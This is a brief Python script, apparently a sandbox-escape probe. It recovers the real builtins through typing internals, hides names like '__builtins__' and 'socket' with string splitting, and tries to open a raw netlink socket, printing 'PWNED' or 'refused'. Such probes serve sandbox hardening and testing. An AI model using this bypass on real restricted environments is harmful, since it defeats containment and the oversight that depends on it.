# socket: an AF_NETLINK socket
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import asyncio
so = ga(asyncio.events, "soc" + "ket")
try:
    s = ga(so, "soc" + "ket")(16, so.SOCK_RAW, 0)
    print(M, s)
except Exception as e:
    print("refused:", type(e).__name__, e)
